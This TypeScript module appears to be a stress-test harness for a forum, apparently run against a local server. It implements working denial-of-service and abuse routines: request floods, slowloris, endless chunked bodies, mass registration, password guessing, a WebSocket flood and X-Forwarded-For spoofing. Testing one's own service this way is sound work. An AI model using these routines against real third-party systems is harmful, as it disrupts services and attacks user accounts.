import { Agent, request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { setTimeout } from 'node:timers/promises'
import { WebSocket } from 'ws'

export interface Target {
  origin: string
  seconds: number
  /** A path that is kept, and the id of its thread. */
  page: string
  thread: number
  /** How many pages scrapers ask for each second. */
  perSecond: number
}

/** How often each status, or fault of the connection, came back. */
export type Outcome = Record<string, number>

type Attack = (target: Target, count: (outcome: string) => void, isOver: () => boolean) => Promise<unknown>

const ADDRESSES = 5_000

/** A proxy on this machine says who asks, as one in front of the forum does. */
export const addressOf = (index: number): string => {
  const host = index % ADDRESSES
  return `203.0.${host >> 8}.${host & 255}`
}

function send(
  target: Target,
  path: string,
  options: { agent: Agent; headers?: Record<string, string>; body?: string },
): Promise<string> {
  const { promise, resolve } = Promise.withResolvers<string>()
  const method = options.body === undefined ? 'GET' : 'POST'
  const sent = request(
    target.origin + path,
    { agent: options.agent, method, headers: options.headers ?? {} },
    (answer) => {
      answer.resume().on('close', () => resolve(String(answer.statusCode)))
    },
  )
  sent.setTimeout(20_000, () => sent.destroy())
  sent
    .on('error', ({ message, ...error }) => resolve(('code' in error && String(error.code)) || message))
    .end(options.body)
  return promise
}

/** So many at once, again and again. */
const together = (count: number, act: (index: number) => Promise<unknown>, isOver: () => boolean) =>
  Promise.all(
    Array.from({ length: count }, async (_, first) => {
      for (let index = first; !isOver(); index += count) await act(index)
    }),
  )

/** One page that everybody wants, as fast as it goes. */
const flood: Attack = (target, count, isOver) => {
  const agent = new Agent({ keepAlive: true, maxSockets: 64 })
  return together(64, async () => count(await send(target, target.page, { agent })), isOver)
}

/** Five thousand addresses, each of which asks now and then for another page that nobody has asked for. */
const scrapers: Attack = async (target, count, isOver) => {
  const agent = new Agent({ keepAlive: true, maxSockets: 128 })
  const began = performance.now()
  const waiting = new Set<Promise<void>>()
  for (let index = 0; !isOver(); index += 1) {
    const due = began + (1_000 * index) / target.perSecond
    const early = due - performance.now()
    if (early > 1) await setTimeout(early)
    if (waiting.size >= 1_000) await Promise.race(waiting)
    const headers = { 'x-forwarded-for': addressOf(index * 7), 'accept-encoding': 'gzip' }
    const asked = send(target, `${target.page}?seen=${index}`, { agent, headers }).then((outcome) => {
      count(outcome)
      waiting.delete(asked)
    })
    waiting.add(asked)
  }
  await Promise.all(waiting)
}

/** Connections that begin a request and never end it (slowloris). */
const slowloris: Attack = async (target, count, isOver) => {
  const sockets: Socket[] = []
  const open = () => {
    const socket = connect(Number(new URL(target.origin).port), '127.0.0.1')
    socket.on('error', () => count('refused')).on('close', () => count('ended'))
    socket.write(`GET / HTTP/1.1\r\nHost: a\r\nX-Forwarded-For: ${addressOf(sockets.length)}\r\n`)
    sockets.push(socket)
  }
  while (!isOver()) {
    for (let more = 0; more < 100 && sockets.length < 3_000; more += 1) open()
    for (const socket of sockets) if (socket.writable) socket.write('x-a: b\r\n')
    await setTimeout(300)
  }
  count(`${sockets.length} opened`)
  for (const socket of sockets) socket.destroy()
}

/** Bodies without end, some said to be gzip, sent to forms that anybody may send and to a page that is kept. */
const bodies: Attack = (target, count, isOver) => {
  const part = Buffer.alloc(65_536, 'a=b&')
  return together(
    20,
    async (index) => {
      const { promise, resolve } = Promise.withResolvers<void>()
      const path = ['/login', `/threads/${target.thread}/replies`, target.page][index % 3] ?? '/'
      const method = path === target.page ? 'GET' : 'POST'
      const headers = {
        'content-type': 'application/x-www-form-urlencoded',
        'transfer-encoding': 'chunked',
        'x-forwarded-for': addressOf(index),
        ...(index % 2 === 0 ? { 'content-encoding': 'gzip' } : {}),
      }
      const sent = request(target.origin + path, { method, headers, agent: false }, (answer) => {
        count(String(answer.statusCode))
        answer.resume()
      })
      sent.on('error', () => count('cut')).on('close', resolve)
      while (!isOver() && !sent.destroyed) {
        if (!sent.write(part))
          await Promise.race([new Promise((drained) => sent.once('drain', drained)), promise, setTimeout(1_000)])
      }
      sent.destroy()
      await promise
    },
    isOver,
  )
}

/** A thousand accounts, from a hundred addresses. */
const registrations: Attack = (target, count, isOver) => {
  const agent = new Agent({ keepAlive: true, maxSockets: 32 })
  return together(
    16,
    async (index) => {
      if (index >= 1_000) return setTimeout(100)
      const body = `username=Foule${index}-${process.pid}&password=quatre+mots+sans+rapport`
      const headers = { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': addressOf(index % 100) }
      count(await send(target, '/register', { agent, headers, body }))
    },
    isOver,
  )
}

/** Guesses at one password, each of which costs a hash. */
const guesses: Attack = (target, count, isOver) => {
  const agent = new Agent({ keepAlive: true, maxSockets: 64 })
  return together(
    32,
    async (index) => {
      const headers = { 'content-type': 'application/x-www-form-urlencoded', 'x-forwarded-for': addressOf(index) }
      count(await send(target, '/login', { agent, headers, body: `username=Lectrice&password=essai+num${index}` }))
    },
    isOver,
  )
}

/** Live windows on one thread, opened as fast as it goes, that write what is no message. */
const sockets: Attack = async (target, count, isOver) => {
  const windows: WebSocket[] = []
  await together(
    32,
    async (index) => {
      if (windows.length > 2_000) return setTimeout(100)
      const { promise, resolve } = Promise.withResolvers<void>()
      const address = `${target.origin.replace('http', 'ws')}/live?thread=${target.thread}&after=0`
      const window = new WebSocket(address, { origin: target.origin, headers: { 'x-forwarded-for': addressOf(index) } })
      window.on('open', () => {
        count('opened')
        for (let message = 0; message < 20; message += 1) window.send('x'.repeat(1_000))
        resolve()
      })
      window.on('unexpected-response', (_request, { statusCode }) => {
        count(String(statusCode))
        window.terminate()
        resolve()
      })
      window.on('error', () => resolve())
      windows.push(window)
      await Promise.race([promise, setTimeout(5_000)])
    },
    isOver,
  )
  for (const window of windows) window.terminate()
}

export const ATTACKS: Record<string, Attack> = { flood, scrapers, slowloris, bodies, registrations, guesses, sockets }

/** Does it for as long as the target says, and answers what came back. */
export async function attack(name: string, target: Target): Promise<Outcome> {
  const outcome: Outcome = {}
  const end = performance.now() + 1_000 * target.seconds
  await ATTACKS[name]?.(
    target,
    (what) => {
      outcome[what] = (outcome[what] ?? 0) + 1
    },
    () => performance.now() > end,
  )
  return outcome
}
